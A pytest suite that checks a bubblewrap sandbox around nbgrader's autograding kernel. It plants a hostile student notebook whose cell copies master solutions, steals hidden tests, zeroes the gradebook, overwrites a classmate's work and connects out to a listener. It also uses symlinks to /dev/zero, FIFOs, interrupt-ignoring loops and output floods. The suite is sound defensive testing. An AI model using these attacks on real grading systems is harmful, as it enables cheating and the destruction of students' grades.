"""nbgrader's notebook kernel in its sandbox: a hostile student's notebook, run by a
real ``nbgrader autograde`` in a class with honest students, tries every attack that
worked when the kernel ran as root in the course folder. Each fails, the honest
students keep full marks and the hostile one earns what its own work earns."""
import filecmp
import json
import os
import shutil
import socket
import subprocess
import sys
import time
from pathlib import Path

import nbformat
import pytest
from nbclient.exceptions import CellTimeoutError
from test_nbgrader_workflow import cell_scores, edit_cell, nbgrader

from autograder import nbgrader_kernel
from autograder.grade import grade_submission
from autograder.sandbox import SandboxUnavailable, scratch
from autograder.sandbox.kernel import SOCKETS_IN_SANDBOX, FolderRefused, KernelSandbox
from conftest import RELEASE, ROOT, SOLUTIONS

from .test_network import Listener

# Graded in this order: alice before the hostile student (her grades are in the
# gradebook when it runs), victor after (his files are read after it ran).
HONEST = ("alice", "victor")
HOSTILE = "mallory"
HANGING = "stuck"  # ignores interrupts: nbgrader gives up on it
LOOPING = "loopy"  # loops until interrupted: the rest of its notebook is graded
FULL_MARKS = 78
# The hostile student's own work: the preprocessing module (10 points); stubs elsewhere,
# and attacks where the answers go.
OWN_WORK = ("preprocessing.py",)
BROKEN_MODULE = "def batchnorm_forward(*args):\n    raise NotImplementedError\n"
# A solution cell run by the kernel of the hostile student's first notebook. It knows
# where the course is (a student may guess it, or find it from the working folder).
ATTACKS = """
import json, os, shutil, socket, sqlite3
from pathlib import Path
course = Path({course!r})
mine, theirs = course / "submitted/mallory/batchnorm", course / "submitted/victor/batchnorm"
master = course / "assignment/batchnorm"
outcome = {{}}

def attempt(name, action):
    try:
        outcome[name] = action()
    except Exception as err:
        outcome[name] = "failed: " + type(err).__name__

def take_the_master():
    for module in master.glob("*.py"):
        shutil.copy(module, mine / module.name)
    return "copied" if list(master.glob("*.py")) else "failed: nothing found"

def steal_hidden():
    text = (master / "grading/hidden/backward.py").read_text()
    (mine / "stolen.py").write_text(text)
    return "stolen: " + text[:60]

def zero_the_gradebook():
    with sqlite3.connect(course / "gradebook.db") as db:
        return "updated %d grades" % db.execute("update grade set auto_score = 0").rowcount

def phone_home():
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"mallory")
    return "connected"

attempt("master", take_the_master)
attempt("other student", lambda: "written %d" % (theirs / "batchnorm.py").write_text({broken!r}))
attempt("hidden checks", steal_hidden)
attempt("gradebook", zero_the_gradebook)
attempt("network", phone_home)
attempt("link", lambda: "read: " + Path("leak.py").read_text()[:60])
Path("note.txt").write_text("left by the kernel")
print("ATTACKS " + json.dumps(outcome))
"""
# Reads the hidden test of the next grade cell from the notebook file it is executed
# from (nbgrader puts the hidden tests back before it executes a notebook).
PEEK = """
import re
from pathlib import Path
answer_zero_init = re.search(r'answer_zero_init == \\\\"(.)\\\\"', Path("WeightInitialization.ipynb").read_text())[1]
"""
IGNORES_SIGINT = "import signal, time\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    time.sleep(1)"
LOOPS = "while True:\n    pass"


@pytest.fixture(scope="module")
def attacked(tmp_path_factory):
    """A class autograded by nbgrader: (course, the hostile student's own folder, the
    listener it phoned, nbgrader's log)."""
    course = tmp_path_factory.mktemp("course")
    shutil.copytree(ROOT / "assignment", course / "assignment", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "nbgrader_config.py", course)
    nbgrader(course, "generate_assignment", "batchnorm", "--force")
    ignore = shutil.ignore_patterns("__pycache__", "executed")
    for student in (*HONEST, HANGING, LOOPING):
        shutil.copytree(SOLUTIONS, course / "submitted" / student / "batchnorm", ignore=ignore)
    own = tmp_path_factory.mktemp("mallory") / "batchnorm"
    shutil.copytree(RELEASE, own, ignore=ignore)
    for name in OWN_WORK:
        shutil.copy(SOLUTIONS / name, own / name)
    listener = Listener()
    edit_cell(own / "DataPreprocessing.ipynb", "answer-statistics",
              ATTACKS.format(course=str(course), port=listener.port, broken=BROKEN_MODULE))
    edit_cell(own / "WeightInitialization.ipynb", "answer-zero-init", PEEK)
    submitted = course / "submitted" / HOSTILE / "batchnorm"
    shutil.copytree(own, submitted)
    # nbgrader copies what a link points to into the autograded folder.
    (submitted / "leak.py").symlink_to(course / "assignment" / "batchnorm" / "grading" / "hidden" / "backward.py")
    edit_cell(course / "submitted" / HANGING / "batchnorm" / "BatchNormalization.ipynb",
              "answer-steps-to-one-percent", IGNORES_SIGINT)
    edit_cell(course / "submitted" / LOOPING / "batchnorm" / "BatchNormalization.ipynb",
              "answer-steps-to-one-percent", LOOPS)
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    done = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", "batchnorm", "--force",
                           "--Execute.timeout=20"], cwd=course, env=env, capture_output=True, text=True)
    listener.close()
    return course, own, listener, done.stdout + done.stderr


def outputs(course, student, notebook):
    nb = nbformat.read(course / "autograded" / student / "batchnorm" / f"{notebook}.ipynb", as_version=4)
    return "\n".join(out.get("text", "") for cell in nb.cells for out in cell.get("outputs", []))


@pytest.mark.slow
def test_honest_students_keep_full_marks(attacked):
    course, *_ = attacked
    for student in HONEST:
        assert sum(score for score, _ in cell_scores(course, student).values()) == FULL_MARKS, student


@pytest.mark.slow
def test_the_hostile_student_earns_what_its_own_work_earns(attacked):
    """Its modules as submitted (not the master's), no question it did not answer, and
    not the answer it read from the notebook's hidden test."""
    course, own, *_ = attacked
    scores = cell_scores(course, HOSTILE)
    assert sum(score for score, _ in scores.values()) == grade_submission(own).score == 10
    assert scores["check-zero-init"][0] == 0


@pytest.mark.slow
def test_every_attack_failed_inside_the_kernel(attacked):
    course, *_ = attacked
    line = next(line for line in outputs(course, HOSTILE, "DataPreprocessing").splitlines()
                if line.startswith("ATTACKS "))
    outcome = json.loads(line.removeprefix("ATTACKS "))
    assert set(outcome) == {"master", "other student", "hidden checks", "gradebook", "network", "link"}
    assert all(what.startswith("failed: ") for what in outcome.values()), outcome


@pytest.mark.slow
def test_the_course_is_as_it_was(attacked):
    course, own, listener, _ = attacked
    submitted = course / "submitted" / HOSTILE / "batchnorm"
    for path in own.glob("*.py"):
        assert filecmp.cmp(path, submitted / path.name, shallow=False), path.name
    assert not (submitted / "stolen.py").exists()
    assert filecmp.cmp(SOLUTIONS / "batchnorm.py", course / "submitted" / "victor" / "batchnorm" / "batchnorm.py",
                       shallow=False)
    assert listener.connections == 0


@pytest.mark.slow
def test_nothing_written_in_the_kernel_reaches_the_course(attacked):
    """The kernel works in a copy: its autograded folder holds nbgrader's files only
    (not the target of a link), and no output holds the hidden checks."""
    course, *_ = attacked
    autograded = course / "autograded" / HOSTILE / "batchnorm"
    assert not (autograded / "note.txt").exists()
    assert not (autograded / "leak.py").exists(), "nbgrader copied what a link points to"
    for path in autograded.rglob("*"):
        if path.is_file():
            assert "Hidden checks of batchnorm_backward" not in path.read_text(errors="replace"), path


@pytest.mark.slow
def test_an_endless_cell_is_interrupted_and_the_notebook_graded(attacked):
    """nbgrader's interrupt reaches the kernel inside its sandbox (as a message)."""
    course, *_ = attacked
    assert sum(score for score, _ in cell_scores(course, LOOPING).values()) == FULL_MARKS - 2
    assert "KeyboardInterrupt" in json.dumps(nbformat.read(
        course / "autograded" / LOOPING / "batchnorm" / "BatchNormalization.ipynb", as_version=4))


@pytest.mark.slow
def test_a_kernel_that_ignores_interrupts_costs_its_student_only(attacked):
    course, _, _, log = attacked
    failed = {line.split("student '")[1].rstrip("'") for line in log.splitlines()
              if "There was an error processing assignment 'batchnorm' for student" in line}
    assert failed == {HANGING}, log[-3000:]


def execute(code, folder):
    """Run a notebook of one cell with nbgrader's Execute, in the sandboxed kernel."""
    from nbgrader.preprocessors import Execute
    from traitlets.config import Config
    config = Config()
    config.Execute.kernel_name = nbgrader_kernel.KERNEL_NAME
    nbgrader_kernel.register()
    nb = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(code)])
    Execute(config=config).preprocess(nb, {"metadata": {"path": str(folder)}})
    return nb


@pytest.mark.slow
@pytest.mark.parametrize(("flood", "error"), [
    # 100 MB in all, at a pace nbgrader keeps up with
    ("import time\nfor _ in range(100):\n    print('x' * 10 ** 6)\n    time.sleep(0.1)", nbgrader_kernel.OutputFlood),
    ("print('x' * 10 ** 8)", CellTimeoutError),  # one too large: nbgrader hears nothing more
])
def test_a_kernel_flooding_nbgrader_with_output_costs_its_notebook(tmp_path, flood, error):
    with pytest.raises(error):
        execute(flood, tmp_path)


def test_where_bubblewrap_cannot_run_no_kernel_starts(tmp_path, monkeypatch):
    """Never a kernel with the course in view: one sentence names the way out."""
    monkeypatch.setattr(nbgrader_kernel, "bubblewrap_works", lambda: False)
    with pytest.raises(SandboxUnavailable, match=r"install the Debian package 'bubblewrap'.*"
                                                 r"c\.Execute\.kernel_name = 'python3'"):
        execute("print('unconfined')", tmp_path)


# The sandbox on its own, with small stand-ins for a kernel.

def sandbox_for(folder, **options):
    folder.mkdir(exist_ok=True)
    return KernelSandbox(folder, **options)


def run(sandbox, code, sockets=(), **options):
    """Start ``code`` (Python) in ``sandbox`` and wait for its ``sockets``."""
    process = subprocess.Popen(sandbox.command([sys.executable, "-c", code]), **sandbox.popen_options())
    sandbox.started(process, list(sockets), **options)
    return process


SERVE = f"""
import socket, time
sockets = []
for name in ("k-1", "k-2"):
    s = socket.socket(socket.AF_UNIX)
    s.bind("{SOCKETS_IN_SANDBOX}/" + name)
    s.listen()
    sockets.append(s)
print("serving", flush=True)
connection, _ = sockets[0].accept()
connection.sendall(b"from the sandbox")
time.sleep(60)
"""


def test_the_parent_reaches_the_sockets_it_was_given(tmp_path):
    sandbox = sandbox_for(tmp_path / "work")
    try:
        run(sandbox, SERVE, sockets=("k-1", "k-2"))
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(10)
            client.connect(str(sandbox.client / "k-1"))
            assert client.recv(100) == b"from the sandbox"
    finally:
        sandbox.close()


def test_a_socket_replaced_by_a_link_to_the_hosts_is_refused(tmp_path):
    """The parent would connect to a socket of the host (here, one the test listens on)."""
    host = socket.socket(socket.AF_UNIX)
    host.bind(str(tmp_path / "host.sock"))
    host.listen()
    host.settimeout(0.5)
    sandbox = sandbox_for(tmp_path / "work")
    try:
        with pytest.raises(RuntimeError, match="is not a socket"):
            run(sandbox, f"import os, time\nos.symlink({str(tmp_path / 'host.sock')!r}, "
                         f"'{SOCKETS_IN_SANDBOX}/k-1')\ntime.sleep(60)", sockets=("k-1",))
        assert not (sandbox.client / "k-1").exists()
    finally:
        sandbox.close()
    with pytest.raises(TimeoutError):
        host.accept()


def test_a_kernel_is_stopped_when_its_lifetime_is_over(tmp_path):
    sandbox = sandbox_for(tmp_path / "work", lifetime=1.0)
    expired = []
    try:
        process = run(sandbox, SERVE, sockets=("k-1",), on_expiry=lambda: expired.append(True))
        process.wait(timeout=30)
        assert expired == [True]
    finally:
        sandbox.close()


def test_the_kernel_sees_a_copy_of_its_folder_without_what_it_must_not(tmp_path):
    folder = tmp_path / "work"
    folder.mkdir()
    (folder / "mine.py").write_text("x = 1\n")
    (folder / "Notebook.ipynb").write_text("{}")
    (folder / "data").mkdir()
    (folder / "data" / "table.csv").write_text("1,2\n")
    (folder / "secret.py").symlink_to(ROOT / "assignment" / "batchnorm" / "grading" / "hidden" / "backward.py")
    sandbox = sandbox_for(folder, skip=lambda relative: relative.suffix == ".ipynb")
    code = ("import os, pathlib, socket\n"
            "open('written.txt', 'w').write('in the copy')\n"
            "files = sorted(str(p) for p in pathlib.Path('.').rglob('*'))\n"
            f"s = socket.socket(socket.AF_UNIX); s.bind('{SOCKETS_IN_SANDBOX}/k-1'); s.listen()\n"
            f"print('SEEN', files, os.getuid(), os.path.exists({str(ROOT / 'assignment')!r}), flush=True)\n"
            "import time; time.sleep(60)")
    try:
        run(sandbox, code, sockets=("k-1",))
        deadline = time.monotonic() + 10
        while "SEEN" not in sandbox.output() and time.monotonic() < deadline:
            time.sleep(0.05)
        seen = sandbox.output()
    finally:
        sandbox.close()
    files, uid, course_seen = seen.split("SEEN ")[1].rsplit(" ", 2)
    assert files == "['data', 'data/table.csv', 'mine.py', 'written.txt']"
    assert course_seen.strip() == "False"
    assert int(uid) != 0, "a kernel never runs as root"
    assert not (folder / "written.txt").exists()


def test_a_folder_too_large_to_copy_is_refused(tmp_path, monkeypatch):
    from autograder.sandbox import kernel
    folder = tmp_path / "work"
    folder.mkdir()
    for i in range(5):
        (folder / f"{i}.txt").write_text("x")
    monkeypatch.setattr(kernel, "COPY_FILES", 4)
    with pytest.raises(FolderRefused, match="more than 4 files"):
        KernelSandbox(folder)
    assert not list(scratch.run_folder().glob("kernel-*")), "a refused sandbox leaves nothing behind"



# Links and special files in a submitted folder: nbgrader itself, as root, would read a
# notebook through a link (graded as its target) and copy a link to /dev/zero for ever.
LINKER = "eve"  # links two notebooks to a classmate's and one to the master
ZEROED = "zed"  # honest, with a link to /dev/zero, a FIFO and a linked folder beside
SCREENING_BOUND = 300  # seconds; without the screening the class run never ends


@pytest.fixture(scope="module")
def linked(tmp_path_factory):
    """A class with an honest student, one who linked its notebooks and one whose folder
    holds a link to /dev/zero, a FIFO and a linked folder, autograded by nbgrader:
    (course, the linker's own folder, nbgrader's log)."""
    course = tmp_path_factory.mktemp("linked")
    shutil.copytree(ROOT / "assignment", course / "assignment", ignore=shutil.ignore_patterns("__pycache__"))
    shutil.copy(ROOT / "nbgrader_config.py", course)
    nbgrader(course, "generate_assignment", "batchnorm", "--force")
    ignore = shutil.ignore_patterns("__pycache__", "executed")
    for student in (HONEST[0], ZEROED):
        shutil.copytree(SOLUTIONS, course / "submitted" / student / "batchnorm", ignore=ignore)
    own = tmp_path_factory.mktemp(LINKER) / "batchnorm"
    shutil.copytree(RELEASE, own, ignore=ignore)
    for name in OWN_WORK:
        shutil.copy(SOLUTIONS / name, own / name)
    submitted = course / "submitted" / LINKER / "batchnorm"
    shutil.copytree(own, submitted)
    for notebook in ("DataPreprocessing", "WeightInitialization"):
        (submitted / f"{notebook}.ipynb").unlink()
        (submitted / f"{notebook}.ipynb").symlink_to(f"../../{HONEST[0]}/batchnorm/{notebook}.ipynb")
    (submitted / "BatchNormalization.ipynb").unlink()
    master = course / "assignment" / "batchnorm"
    (submitted / "BatchNormalization.ipynb").symlink_to(master / "BatchNormalization.ipynb")
    zeroed = course / "submitted" / ZEROED / "batchnorm"
    (zeroed / "notes").mkdir()
    (zeroed / "notes" / "zero.txt").symlink_to("/dev/zero")
    os.mkfifo(zeroed / "pipe")
    (zeroed / "hidden").symlink_to(master / "grading")
    env = {**os.environ, "PATH": f"{Path(sys.executable).parent}{os.pathsep}{os.environ['PATH']}"}
    try:
        done = subprocess.run([sys.executable, "-m", "nbgrader", "autograde", "batchnorm", "--force"], cwd=course,
                              env=env, capture_output=True, text=True, timeout=SCREENING_BOUND)
    finally:
        (zeroed / "pipe").unlink()  # nothing may open it after the test either
    return course, own, done.stdout + done.stderr


@pytest.mark.slow
def test_a_notebook_linked_to_a_classmates_or_the_master_is_not_graded_as_its_target(linked):
    """The linker earns what its own modules earn; nothing of the master's notebook (its
    solutions) reaches its autograded notebooks; each link is one sentence in the log
    and a cell of its notebook."""
    course, own, log = linked
    scores = cell_scores(course, LINKER)
    assert sum(score for score, _ in scores.values()) == grade_submission(own).score == 10
    autograded = course / "autograded" / LINKER / "batchnorm"
    master = json.dumps(nbformat.read(course / "assignment" / "batchnorm" / "BatchNormalization.ipynb", as_version=4))
    assert "### BEGIN SOLUTION" in master
    for notebook in ("DataPreprocessing", "WeightInitialization", "BatchNormalization"):
        nb = nbformat.read(autograded / f"{notebook}.ipynb", as_version=4)
        assert not (autograded / f"{notebook}.ipynb").is_symlink()
        assert [c.source for c in nb.cells if c.cell_type == "markdown"] == [
            f"**{notebook}.ipynb was not graded**: in your submission it is a link, and the grader reads only files "
            "you submitted yourself, so it was graded as an empty notebook."]
        assert "BEGIN SOLUTION" not in json.dumps(nb)
        assert f"'submitted/{LINKER}/batchnorm/{notebook}.ipynb' is a link; nbgrader does not read it" in log
    assert sum(score for score, _ in cell_scores(course, HONEST[0]).values()) == FULL_MARKS


@pytest.mark.slow
def test_links_and_special_files_in_a_submission_are_never_opened(linked):
    """A link to /dev/zero, a FIFO and a linked folder are left out, each with one
    sentence; the class run ends and the student keeps full marks."""
    course, _, log = linked
    assert sum(score for score, _ in cell_scores(course, ZEROED).values()) == FULL_MARKS
    autograded = course / "autograded" / ZEROED / "batchnorm"
    assert sorted(p.name for p in autograded.iterdir() if p.name in {"notes", "pipe", "hidden"}) == []
    for path, kind in (("notes/zero.txt", "a link"), ("pipe", "a FIFO"), ("hidden", "a link")):
        assert f"'submitted/{ZEROED}/batchnorm/{path}' is {kind}; nbgrader does not open it" in log, path


def test_the_screening_names_every_link_and_special_file_and_nothing_else(tmp_path):
    """At any depth, without entering a linked folder; a submission folder that is a link
    (or lies under one) is refused whole. The step folder above is the instructor's."""
    from autograder.nbgrader_screening import refused
    elsewhere = tmp_path / "disk"
    (elsewhere / "eve" / "batchnorm").mkdir(parents=True)
    (tmp_path / "submitted").symlink_to(elsewhere)  # the instructor's choice: followed
    folder = tmp_path / "submitted" / "eve" / "batchnorm"
    (folder / "deep" / "deeper").mkdir(parents=True)
    (folder / "mine.py").write_text("x = 1\n")
    (folder / "deep" / "deeper" / "zero.txt").symlink_to("/dev/zero")
    os.mkfifo(folder / "deep" / "pipe")
    (folder / "linked").symlink_to(tmp_path)
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(str(folder / "deep" / "sock"))
        assert refused(str(folder), str(tmp_path)) == {
            str(folder / "deep" / "deeper" / "zero.txt"): "a link", str(folder / "deep" / "pipe"): "a FIFO",
            str(folder / "linked"): "a link", str(folder / "deep" / "sock"): "a socket"}
    (tmp_path / "submitted" / "mallory").symlink_to(elsewhere / "eve")
    linked = str(tmp_path / "submitted" / "mallory" / "batchnorm")
    assert refused(linked, str(tmp_path)) == {linked: "under 'submitted/mallory', which is a link"}


def test_a_timestamp_is_read_only_from_a_regular_file_of_a_timestamps_size(tmp_path):
    """nbgrader reads timestamp.txt whole, before any hook: a link to /dev/zero was read
    for ever. A regular timestamp is still read."""
    from nbgrader.converters import Autograde
    from nbgrader.coursedir import CourseDirectory

    from autograder.nbgrader_screening import ScreenedExporter
    converter = Autograde(coursedir=CourseDirectory(root=str(tmp_path)))
    ScreenedExporter(parent=converter)
    folder = tmp_path / "submitted" / "eve" / "batchnorm"
    folder.mkdir(parents=True)
    timestamp = folder / "timestamp.txt"
    for make in (lambda: timestamp.symlink_to("/dev/zero"), lambda: os.mkfifo(timestamp),
                 lambda: timestamp.write_text("2026-12-06 10:00:00" + " " * 2000)):
        make()
        assert converter.coursedir.get_existing_timestamp(str(folder)) is None
        timestamp.unlink()
    timestamp.write_text("2026-12-06 10:00:00.000000 UTC")
    assert converter.coursedir.get_existing_timestamp(str(folder)).year == 2026
